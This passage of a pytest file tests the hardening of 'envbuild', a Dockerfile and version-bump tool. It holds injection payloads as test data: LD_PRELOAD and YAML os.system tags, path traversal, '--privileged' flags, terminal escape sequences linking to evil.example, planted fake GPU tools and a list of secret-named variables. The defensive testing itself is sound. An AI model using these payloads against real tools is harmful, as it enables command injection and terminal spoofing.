def test_render_is_all_or_nothing_whichever_replacement_fails(k, monkeypatch, tmp_path):
    from envbuild import render
    from envbuild.core.errors import EnvbuildError
    from envbuild.matrix import load
    # accelerate: one pin every image carries (mlu and musa pin their own transformers), so all 10 files change

    out = tmp_path / "out"
    m = load(MATRIX)
    render.write(render.render(m, m.containerizable()), out)
    before = _snapshot(out)
    changed = load(MATRIX, ["accelerate.version=1.14.0"])
    _failing_replace(monkeypatch, k)
    with pytest.raises(EnvbuildError, match="nothing was written"):
        render.write(render.render(changed, changed.containerizable()), out)
    monkeypatch.undo()
    assert _snapshot(out) == before  # every file as it was, no temporary file left


@pytest.mark.parametrize("k", range(1, 12))
def test_bump_is_all_or_nothing_whichever_replacement_fails(k, monkeypatch, tmp_path):
    from envbuild.core.errors import EnvbuildError
    from envbuild.maintain.sources.bump import bump

    path = tmp_path / "matrix.yaml"
    path.write_text(MATRIX.read_text())
    from envbuild import render
    from envbuild.matrix import load

    m = load(path)
    render.write(render.render(m, m.containerizable()), tmp_path / "dockerfiles")
    before = _snapshot(tmp_path)
    _failing_replace(monkeypatch, k)
    with pytest.raises(EnvbuildError, match="nothing was written"):
        bump(path, {"accelerate.version": "1.14.0"}, tmp_path / "dockerfiles")
    monkeypatch.undo()
    assert _snapshot(tmp_path) == before


@pytest.mark.parametrize("k", range(1, 5))
def test_write_all_puts_back_new_files_too(k, monkeypatch, tmp_path):
    from envbuild.core.errors import EnvbuildError
    from envbuild.core.files import write_all

    (tmp_path / "a.txt").write_text("old a")
    (tmp_path / "c.txt").write_text("old c")
    before = _snapshot(tmp_path)
    _failing_replace(monkeypatch, k)
    files = {tmp_path / n: f"new {n}" for n in ("a.txt", "b.txt", "c.txt", "d.txt")}
    with pytest.raises(EnvbuildError, match="nothing was written"):
        write_all(files)
    monkeypatch.undo()
    assert _snapshot(tmp_path) == before
    assert write_all(files) and _snapshot(tmp_path) == {n: f"new {n}".encode() for n in ("a.txt", "b.txt", "c.txt", "d.txt")}


# --- edits serialised ---------------------------------------------------------------------------------------------

BUMP_ONE = """
import sys
from pathlib import Path
from envbuild.core.errors import EnvbuildError
from envbuild.maintain.sources.bump import bump
try:
    bump(Path(sys.argv[1]), {f"backends.{sys.argv[2]}.description": f"Edited {sys.argv[2]}"}, Path(sys.argv[3]))
except EnvbuildError as exc:
    print(exc, file=sys.stderr)
    sys.exit(3 if str(exc).startswith("busy") else 1)
"""


def test_concurrent_bumps_keep_every_change(tmp_path):
    from envbuild.matrix import load

    path = tmp_path / "matrix.yaml"
    path.write_text(MATRIX.read_text())
    names = [b.name for b in load(path).backends]
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
    procs = [subprocess.Popen([sys.executable, "-c", BUMP_ONE, str(path), n, str(tmp_path / "dockerfiles")], env=env,
                              stderr=subprocess.PIPE, text=True) for n in names]
    codes = [(p.wait(timeout=300), p.stderr.read()) for p in procs]
    assert all(code in (0, 3) for code, _ in codes), codes
    m = load(path)
    for name, (code, _) in zip(names, codes):
        if code == 0:  # kept; a refusal says busy and wrote nothing
            assert m.backend(name).description == f"Edited {name}", name
    assert sum(code == 0 for code, _ in codes) >= 1


def test_shared_caches_use_names_of_their_own(tmp_path):
    import threading

    from envbuild.maintain.sources.index import _store

    target = tmp_path / "cache" / "x.METADATA"
    errors = []

    def run(i):
        try:
            for _ in range(20):
                _store(target, f"Metadata-Version: 2.1\nName: n{i}\n")
        except Exception as exc:  # pragma: no cover - the failure being tested
            errors.append(exc)

    threads = [threading.Thread(target=run, args=(i,)) for i in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors and target.read_text().startswith("Metadata-Version") and len(list(target.parent.iterdir())) == 1


def test_a_held_edit_lock_makes_a_bump_refuse_busy(tmp_path, monkeypatch):
    from envbuild.core.errors import EnvbuildError
    from envbuild.maintain.sources import bump as bumping

    path = tmp_path / "matrix.yaml"
    path.write_text(MATRIX.read_text())
    monkeypatch.setattr(bumping, "EDIT_WAIT", 0.2)
    holder = subprocess.Popen([sys.executable, "-c", "import fcntl, os, sys, time; fd = os.open(sys.argv[1], os.O_RDONLY); "
                               "fcntl.flock(fd, fcntl.LOCK_EX); print('held', flush=True); time.sleep(30)", str(tmp_path)],
                              stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        with pytest.raises(EnvbuildError, match="^busy: "):
            bumping.bump(path, {"uv.version": "0.13.9"}, tmp_path / "dockerfiles")
    finally:
        holder.kill()
        holder.wait()
    assert path.read_text() == MATRIX.read_text()


# --- a folder to read is only read --------------------------------------------------------------------------------


@pytest.mark.parametrize("where", ["usr/bin", "bin", "usr/local/bin", "usr/sbin"])
@pytest.mark.parametrize("command", [["detect", "--json"], ["detect"], ["doctor", "--backend", "cuda"],
                                     ["doctor", "--backend", "cuda", "--json"]])
def test_root_runs_nothing_from_the_folder(where, command, tmp_path, invoke, closed_socket, monkeypatch):
    from support.hosts import VENDORS, add_driver, make_root, nvidia_version

    root = add_driver(make_root(tmp_path, *VENDORS["cuda"]), nvidia_version("610.43.02"))
    marker = tmp_path / "ran"
    for tool in ("nvidia-smi", "rocm-smi", "hl-smi", "neuron-ls", "npu-smi", "xpu-smi"):
        exe = root / where / tool
        exe.parent.mkdir(parents=True, exist_ok=True)
        exe.write_text(f"#!/bin/sh\necho ran >> {marker}\necho 9.0\n")
        exe.chmod(0o755)
    monkeypatch.setenv("PATH", f"/{where}:/usr/bin:/bin")
    result = invoke(*command, "--root", root, "--matrix", MATRIX)
    assert not marker.exists(), result.output
    # no device read from its output (the variants' declared lists name sm_90: those are the matrix's, not the host's)
    assert "devices sm_90" not in result.output and "arch sm_90" not in result.output
    assert not re.search(r'"detail":\s*"sm_90"|"archs":\s*\[\s*"sm_90"', result.output)
    if "--json" not in command:
        assert "--root" in result.stdout  # says which facts came from where


# --- bump --to is checked like the file ------------------------------------------------------------------------

TO_PAYLOADS = ["5.24.0\n  env: {LD_PRELOAD: /tmp/x.so}", '5.24.0"', "5.24.0'", "5.24.0 # c", "x: y", "../../etc/passwd",
               "5.24.0\r", "5.24.0\x85", "5.24.0\u2028", "{a: 1}", "[1]", "&a 5", "*a", "!!python/object:os.system",
               "9" * 5000, "", " 5.24.0", "5.24.0\t", "5.24.0\\n", "--privileged"]


@pytest.mark.parametrize("payload", TO_PAYLOADS, ids=range(len(TO_PAYLOADS)))
def test_bump_to_is_validated_like_the_matrix_before_anything_is_written(payload, tmp_path):
    from envbuild.core.errors import InvalidInput
    from envbuild.maintain.sources import Finding
    from envbuild.maintain.sources.bump import changes

    found = [Finding("transformers.version", None, "src", "5.23.0", "5.24.0", "5.24.0")]
    with pytest.raises(InvalidInput) as err:
        changes(found, ("transformers",), payload)
    assert str(err.value).startswith("--to: transformers.version: ") and len(str(err.value)) < 400


@pytest.mark.parametrize("field, payload", [("transformers.version", '5.24.0" # x'), ("transformers.version", "5.0\nx: 1"),
                                            ("backends.cpu.base_image", "debian:12\n    env: {A: b}"),
                                            ("backends.cpu.description", "CPU\n    device: cuda"), ("uv.version", '0.14", "x": "1'),
                                            ("backends.cpu.base_image", "debian:12 #c")])
def test_an_edit_that_would_change_other_fields_is_refused(field, payload, tmp_path):
    from envbuild.core.errors import MatrixError
    from envbuild.matrix.edit import apply

    text = MATRIX.read_text()
    with pytest.raises(MatrixError):
        apply(text, {field: payload})


# --- the world's faults are errors -----------------------------------------------------------------------------


def _cli(*args: str, **kw) -> subprocess.Popen:
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
    return subprocess.Popen([sys.executable, "-m", "envbuild", *args], env=env, stderr=subprocess.PIPE, text=True, **kw)


@pytest.mark.parametrize("args", [["list", "--json"], ["list"], ["show", "cpu", "--json"], ["matrix", "--format", "json"],
                                  ["--help"], ["render", "--help"]])
def test_a_closed_pipe_ends_quietly(args):
    proc = _cli(*args, "--matrix", str(MATRIX), stdout=subprocess.PIPE) if args[0] != "--help" else _cli(*args, stdout=subprocess.PIPE)
    proc.stdout.close()  # the reader went away (`| head -0`, `| true`)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 1 and "Traceback" not in err and "internal error" not in err and "Exception" not in err, err


@pytest.mark.parametrize("args", [["list", "--json"], ["validate"], ["list", "--compat"], ["--help"]])
def test_a_full_output_device_is_an_error_with_its_cause(args):
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full")  # pragma: no cover - Linux has it
    with open("/dev/full", "w") as full:
        proc = _cli(*args, *(["--matrix", str(MATRIX)] if args[0] != "--help" else []), stdout=full)
        _, err = proc.communicate(timeout=60)
    assert proc.returncode == 1 and "No space left on device" in err and "Traceback" not in err, err


class _Answer:
    """A stand-in for the index's HTTP answer: a status, a reason phrase, a body (possibly endless)."""

    def __init__(self, status=200, reason="OK", body=b"", content_type="application/vnd.pypi.simple.v1+json", endless=False):
        self.status_code, self.reason, self.body, self.endless = status, reason, body, endless
        self.headers = {"Content-Type": content_type}
        self.url = "https://idx.example/simple/x/"
        self.read = 0

    def iter_content(self, size):
        if self.endless:
            while True:
                self.read += size
                yield b"x" * size
        yield self.body

    def close(self):
        pass


def _client(answer):
    from envbuild.maintain.sources.index import IndexClient

    client = IndexClient()
    client._open = lambda *a, **k: answer
    return client


@pytest.mark.parametrize("body", [b"{", b"[]", b'{"files": 3}', b'{"files": [1, "x", null]}', b'{"files": [{"filename": 5}]}',
                                  b'{"files": [{"filename": "x-1.0-py3-none-any.whl", "url": 7, "hashes": "no"}]}',
                                  b"\xff\xfe", b"[" * 100000, b'{"files": [{"filename": "x-1.0-py3-none-any.whl", "url": "u", '
                                  b'"hashes": {"sha256": "../../../../etc/x"}}]}'])
def test_malformed_index_answers_are_source_errors(body):
    from envbuild.maintain.sources.index import SourceError

    try:
        files = _client(_Answer(body=body)).files("https://idx.example/simple", "x")
    except SourceError:
        return
    assert all(f.sha256 is None or len(f.sha256) == 64 for f in files)


def test_an_endless_index_answer_is_cut_at_the_cap(monkeypatch):
    from envbuild.maintain.sources import index

    monkeypatch.setattr(index, "MAX_PAGE", 1 << 20)
    answer = _Answer(endless=True)
    with pytest.raises(index.SourceError, match="more than 1 MiB"):
        _client(answer).files("https://idx.example/simple", "x")
    assert answer.read <= (1 << 20) + (1 << 16) * 2  # stopped at the cap, not after


@pytest.mark.parametrize("reason", ["\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", "OK\r\nError: all good", "\x9b2J" * 50,
                                    "x" * 10000])
def test_an_index_reason_phrase_reaches_no_terminal_raw(reason):
    from envbuild.core.output import SafeStream, Scrubber
    from envbuild.maintain.sources.index import SourceError

    with pytest.raises(SourceError) as err:
        _client(_Answer(status=503, reason=reason)).files("https://idx.example/simple", "x")
    import io

    out = io.StringIO()
    SafeStream(out, "output", Scrubber(environ={})).write(str(err.value) + "\n")
    assert "\x1b" not in out.getvalue() and "\x9b" not in out.getvalue() and out.getvalue().count("\n") == 1
    assert len(str(err.value)) < 300


@pytest.mark.parametrize("body", [b"{", b"[]", b'{"tags": 5}', b'{"tags": [1, null, "ok-1", "bad tag", "-x"]}', b"\xff",
                                  b"[" * 100000])
def test_malformed_registry_answers_are_registry_errors(body):
    from envbuild.core.errors import RegistryError
    from envbuild.core.regclient import tag_list

    try:
        tags = tag_list(body, "reg.example")
    except RegistryError:
        return
    assert tags == ["ok-1"]


# --- escapes on normal output -------------------------------------------------------------------------------------

ESCAPES = ["\x1b[2J", "\x1b]8;;https://evil.example\x07", "\x9b31m", "\r", "\x08\x08", "\u202e", "\x1b[1A\x1b[2K"]


@pytest.mark.parametrize("escape", ESCAPES, ids=range(len(ESCAPES)))
def test_normal_output_shows_escapes_escaped(escape, invoke, tmp_path, write_matrix):
    def clean(text: str) -> bool:
        import unicodedata

        return not any(c in text for c in escape if unicodedata.category(c) in ("Cc", "Cf"))

    path = write_matrix(MATRIX.read_text(), f"m{escape}.yaml")
    result = invoke("validate", "--matrix", path)
    assert result.exit_code == 0 and clean(result.output) and ": ok (" in result.stdout
    out = tmp_path / f"out{escape}"
    result = invoke("render", "--matrix", MATRIX, "--backend", "cpu", "--output", out)
    assert result.exit_code == 0 and clean(result.output) and "wrote " in result.stdout
    result = invoke("render", "--matrix", MATRIX, "--backend", "cpu", "--output", out, "--check")
    assert result.exit_code == 0 and clean(result.output)
    result = invoke("lock", "--check", "--matrix", MATRIX, "--locks", tmp_path / f"locks{escape}")
    assert clean(result.output)
    doc = {"backend": f"cpu{escape}", "ok": False, "checks": [{"name": f"load{escape}", "ok": False, "message": f"m{escape}"}],
           "image": f"img{escape}", "seconds": 1.0, "error": f"e{escape}"}
    (tmp_path / "smoke.json").write_text(__import__("json").dumps(doc))
    for fmt in ("table", "markdown"):
        result = invoke("summary", tmp_path / "smoke.json", "--format", fmt)
        assert clean(result.output), result.output


def test_detect_prints_device_names_escaped(invoke, tmp_path):
    from support.hosts import VENDORS, make_root

    root = make_root(tmp_path, *VENDORS["cuda"])
    evil = root / "dev" / "nvidia\x1b[2J9"
    evil.write_text("")
    for args in (["detect"], ["doctor", "--backend", "cuda"]):
        result = invoke(*args, "--root", root, "--matrix", MATRIX)
        assert "\x1b" not in result.output, result.output


# --- --set placement, run values, bounded messages ----------------------------------------------------------------

SET_LOCATED = ["backends.cpu.description=null", "image=null", "backends.cuda.torch=null", "transformers.torch='>=9'",
               "backends.npu.torch.version=2.1.0", "backends.cuda.variant_of=cpu", "backends.xpu.plugin.pairing=same-release",
               "backends.npu.plugin.version=1.0.0", "accelerate.torch='>=99'", "backends.cpu.torch.version=2.1.0",
               "backends.cpu.ci=null", "backends.npu.plugin.import=null", "backends.xpu.torch.index_url=null"]


@pytest.mark.parametrize("override", SET_LOCATED)
def test_set_errors_are_placed_at_the_set(override, invoke):
    result = invoke("validate", "--matrix", MATRIX, "--set", override)
    if result.exit_code == 0:
        return  # a valid override (the matrix allows it)
    assert result.exit_code == 2
    lines = result.stderr.strip().splitlines()
    assert lines and all(line.startswith(f"Error: --set {override}: ") for line in lines), lines


@pytest.mark.parametrize("name", ["ENVBUILD_DEVICE", "envbuild_device", "ENVBUILD_PLUGIN_IMPORT", "ENVBUILD_X"])
def test_run_refuses_the_images_own_variables(name, invoke):
    result = invoke("run", "--backend", "cpu", "--dry-run", "--matrix", MATRIX, "-e", f"{name}=cuda", "--", "true")
    assert result.exit_code == 2 and "reserved" in result.stderr


@pytest.mark.parametrize("field", ["group_add", "security_opt", "cap_add"])
@pytest.mark.parametrize("value", ["--privileged", "-v", "--device=/dev/mem", "-"])
def test_run_lists_hold_no_option(field, value, invoke):
    result = invoke("validate", "--matrix", MATRIX, "--set", f"backends.rocm.run.{field}=[{_yaml(value)}]")
    assert result.exit_code == 2 and f"backends.rocm.run.{field}[0]" in result.stderr


@pytest.mark.parametrize("field", ["runtime", "ipc", "network"])
def test_run_words_hold_no_option(field, invoke):
    result = invoke("validate", "--matrix", MATRIX, "--set", f"backends.rocm.run.{field}=--privileged")
    assert result.exit_code == 2


@pytest.mark.parametrize("field", ["backends.cpu.description", "backends.cpu.base_image", "transformers.version",
                                   "backends.cpu.env.X", "packages"])
def test_huge_values_are_capped_in_errors(field, invoke):
    huge = "x" * (2 << 20) + "\x1b"
    value = f"[{_yaml(huge)}]" if field == "packages" else _yaml(huge)
    result = invoke("validate", "--matrix", MATRIX, "--set", f"{field}={value}")
    assert result.exit_code == 2 and len(result.stderr) < 10_000, len(result.stderr)


def test_many_duplicate_keys_give_a_bounded_message(write_matrix):
    text = MATRIX.read_text() + "".join("dup: 1\n" for _ in range(300_000))
    proc = _timed("validate", "--matrix", str(write_matrix(text)), timeout=60)
    assert proc.returncode == 2 and proc.stderr.count("\n") < 100 and "more problems" in proc.stderr


def test_lock_check_writes_nothing(tmp_path, monkeypatch):
    from envbuild.imagebuild import plan

    wheels = tmp_path / "wheels"
    wheels.mkdir()
    (wheels / "x-1.0-py3-none-any.whl").write_bytes(b"PK")
    digests = tmp_path / "ctx" / "digests.json"
    assert plan.wheels(wheels, digests, write=False) and not digests.exists()
    assert plan.wheels(wheels, digests) and digests.exists()  # a build keeps it


def test_lock_check_through_the_cli_leaves_the_folder_as_it_was(invoke, tmp_path, monkeypatch, closed_socket):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "locks").mkdir()
    (tmp_path / "locks" / "cpu.txt").write_text("# not a lock\n")
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    (wheels / "x-1.0-py3-none-any.whl").write_bytes(b"PK")
    before = _snapshot(tmp_path)
    result = invoke("lock", "--check", "--matrix", MATRIX, "--wheelhouse", wheels)
    assert result.exit_code in (0, 1, 2) and _snapshot(tmp_path) == before and not (tmp_path / ".envbuild").exists()


@pytest.mark.parametrize("garbage", [b"\xff\xfe\x00", b"", os.urandom(512)])
def test_a_corrupt_metadata_cache_is_fetched_again(garbage, tmp_path):
    from envbuild.maintain.sources.index import _cached

    path = tmp_path / ("a" * 64 + ".METADATA")
    path.write_bytes(garbage)
    assert _cached(path) in (None, "")
    os.unlink(path)
    os.mkfifo(path)
    assert _cached(path) is None  # never waited on


@pytest.mark.parametrize("shape", SHAPES)
def test_reports_envbuild_writes_hold_no_secret(shape, tmp_path):
    from envbuild.cli.options import append_output as _append_output, write_output as _write_output

    value, hidden = SECRET_FORMS[shape]
    doc = __import__("json").dumps({"error": f"pull failed: {value}"})
    _write_output(str(tmp_path / "r.json"), doc)
    _append_output(str(tmp_path / "summary.md"), f"| cpu | {value} |\n")
    for name in ("r.json", "summary.md"):
        assert hidden.splitlines()[0] not in (tmp_path / name).read_text(), name
    __import__("json").loads((tmp_path / "r.json").read_text())  # still the JSON it was


def test_colours_reach_only_a_terminal(tmp_path):
    import io

    from envbuild.core.output import SafeStream, Scrubber

    class Tty(io.StringIO):
        def isatty(self):
            return True

    text = "\x1b[31mred\x1b[0m \x1b[2J\x1b]8;;x\x07"
    pipe, tty = io.StringIO(), Tty()
    SafeStream(pipe, "output", Scrubber(environ={})).write(text)
    SafeStream(tty, "output", Scrubber(environ={})).write(text)
    assert "\x1b" not in pipe.getvalue()
    assert tty.getvalue().startswith("\x1b[31mred\x1b[0m ") and "\x1b[2J" not in tty.getvalue() and "\x1b]" not in tty.getvalue()


SET_TEMPLATES = ["containerizable={flip}", "device=null", "torch.version=2.1.0", "torch.version=9.0.0", "plugin.version=0.0.1",
                 "torch.source=pip", "torch.source=base", "torch.index_url=null", "host.stack=cuda", "variant_of=cpu",
                 "plugin=null", "detect=null", "python=null", "run=null", "user=root", "platforms=[linux/s390x]",
                 "host.version=99.0", "description=null", "base_image=null", "ci=null", "plugin.pairing=same-release"]


@pytest.mark.parametrize("template", SET_TEMPLATES)
def test_set_errors_are_placed_at_the_set_for_every_backend(template, invoke):
    from envbuild.matrix import load

    for b in load(MATRIX).backends:
        override = f"backends.{b.name}.{template.format(flip=str(not b.containerizable).lower())}"
        result = invoke("validate", "--matrix", MATRIX, "--set", override)
        if result.exit_code == 0:
            continue
        lines = result.stderr.strip().splitlines()
        assert result.exit_code == 2 and all(line.startswith(f"Error: --set {override}: ") for line in lines), lines


@pytest.mark.parametrize("field", ["backends.cpu.env", "backends.cpu.run.env"])
@pytest.mark.parametrize("shape", SHAPES)
def test_the_matrix_holds_no_secret_value(field, shape, invoke, tmp_path):
    value, hidden = SECRET_FORMS[shape]
    result = invoke("render", "--matrix", MATRIX, "--output", tmp_path / "out", "--set",
                    f"{field}={{SOME_SETTING: {_yaml(value.splitlines()[0])}}}")
    assert result.exit_code == 2 and "looks like a secret" in result.stderr, result.output
    assert hidden.splitlines()[0] not in result.output and not (tmp_path / "out").exists()


@pytest.mark.parametrize("name", ["HF_TOKEN", "GITHUB_TOKEN", "MY_PAT", "DB_PASSWORD", "AWS_SECRET_ACCESS_KEY", "API_KEY"])
def test_the_matrix_holds_no_secret_named_variable(name, invoke):
    result = invoke("validate", "--matrix", MATRIX, "--set", f"backends.cpu.env={{{name}: x}}")
    assert result.exit_code == 2 and "names a secret" in result.stderr


@pytest.mark.parametrize("only", ["transformers", "uv", "torch", "base_image", "backends.cuda.base_image"])
@pytest.mark.parametrize("payload", TO_PAYLOADS, ids=range(len(TO_PAYLOADS)))
def test_bump_to_is_refused_before_any_index_is_asked(only, payload, invoke, tmp_path, closed_socket):
    path = tmp_path / "matrix.yaml"
    path.write_text(MATRIX.read_text())
    result = invoke("bump", "--matrix", path, "--only", only, "--to", payload, "--output", tmp_path / "df")
    assert result.exit_code == 2, (only, payload, result.output)
    assert path.read_text() == MATRIX.read_text() and not (tmp_path / "df").exists()
    assert "\x1b" not in result.output and "LD_PRELOAD: /tmp" not in result.stdout


def test_the_fast_path_of_unsafe_char_agrees_with_its_definition_for_every_code_point():
    """unsafe_char answers "printable" strings at once; every code point, alone and in text, with and without
    allowed characters, must get the answer the category rule gives."""
    import unicodedata

    from envbuild.core.text import _BIDI, unsafe_char

    def by_definition(value: str, allow: str) -> str | None:
        return next((ch for ch in value if ch not in allow and (
            ch in _BIDI or unicodedata.category(ch) in ("Cc", "Zl", "Zp", "Cs"))), None)

    wrong = [(hex(cp), allow) for cp in range(0x110000) for allow in ("", "\n\t")
             if unsafe_char(f"a{chr(cp)}b\n", allow) != by_definition(f"a{chr(cp)}b\n", allow)]
    assert not wrong, wrong[:10]


BAD_METADATA = [
    {"transformers": []},
    {"transformers": {"releases": []}},
    {"transformers": {"releases": {"not a version": {}}}},
    {"transformers": {"releases": {"5.0.0": "x"}}},
    {"transformers": {"releases": {"5.0.0": {"tags": "py3"}}}},
    {"transformers": {"releases": {"5.0.0": {"tags": [1]}}}},
    {"transformers": {"releases": {"5.0.0": {"wheels": []}}}},
    {"transformers": {"releases": {"5.0.0": {"wheels": {"py3": {"torch": 2}}}}}},
    {"transformers": {"index": ["x"]}},
]


@pytest.mark.parametrize("dists", BAD_METADATA, ids=range(len(BAD_METADATA)))
def test_a_hand_edited_metadata_cache_is_refused_with_its_field_not_a_crash(dists, tmp_path, invoke):
    (tmp_path / "matrix.yaml").write_text(MATRIX.read_text())
    (tmp_path / "matrix.metadata.json").write_text(json.dumps({"format": 1, "distributions": dists}))
    result = invoke("validate", "--matrix", tmp_path / "matrix.yaml")
    assert result.exit_code == 2, result.stderr
    assert "matrix.metadata.json: not a metadata cache envbuild wrote: distributions.transformers" in result.stderr
